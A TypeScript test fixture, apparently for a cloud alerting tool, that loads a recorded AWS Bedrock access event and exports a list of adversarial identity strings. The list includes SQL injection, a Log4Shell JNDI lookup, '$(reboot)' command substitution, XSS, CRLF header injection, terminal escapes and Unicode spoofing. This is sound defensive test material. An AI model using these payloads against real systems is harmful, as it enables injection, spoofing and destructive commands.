import { readFileSync } from 'node:fs'
import { account, region } from '../cloud.ts'

const file = new URL('../events/bedrock-model-access-enabled/fires.json', import.meta.url)
const recorded = readFileSync(file, 'utf8')
  .replaceAll('111122223333', account)
  .replaceAll('eu-central-1', region)

interface Real {
  id: string
  detail: { userIdentity: { type: unknown; sessionContext: { sessionIssuer: { userName: unknown } } } }
}

/** A recorded event that names the role `rag-indexer`, or another identity in its place. */
export function realEvent(more: { userName?: unknown; type?: unknown } = {}): Real & Record<string, unknown> {
  const event = JSON.parse(recorded)
  const { userIdentity } = event.detail
  if ('userName' in more) userIdentity.sessionContext.sessionIssuer.userName = more.userName
  if ('type' in more) userIdentity.type = more.type
  return event
}

/** Texts with a meaning elsewhere: in a policy, a path, a terminal, a log, HTML, a shell, or for a reader. */
export const hostile = [
  '',
  ' ',
  '*',
  'rag-*',
  'rag-?ndexer',
  '../rag-indexer',
  'rag-indexer/../admin',
  'rag-indexer/admin',
  'rag-indexer\n',
  'rag-indexer\r\nX-Amz-Target: x',
  'rag-indexer\u0000',
  '\u001b[2J\u001b]0;owned\u0007',
  '\u202egninrot',
  'rag\u200bindexer',
  'r\u0430g-indexer',
  '\uff52\uff41\uff47',
  '\ud83d\ude08',
  '{"Effect":"Allow","Action":"*"}',
  '","Action":"*","x":"',
  "'; DROP TABLE journal; --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: text of an attacker, not a template.
  '${jndi:ldap://x}',
  '$(reboot)',
  '<img src=x onerror=alert(1)>',
  '<!channel> <https://evil.example|click>',
  'arn:aws:iam::123456789012:role/admin',
  'a'.repeat(300),
]

/** Nested lists of this depth. */
export function nested(levels: number): unknown {
  let here: unknown = 'bottom'
  for (let level = 0; level < levels; level++) here = [here]
  return here
}
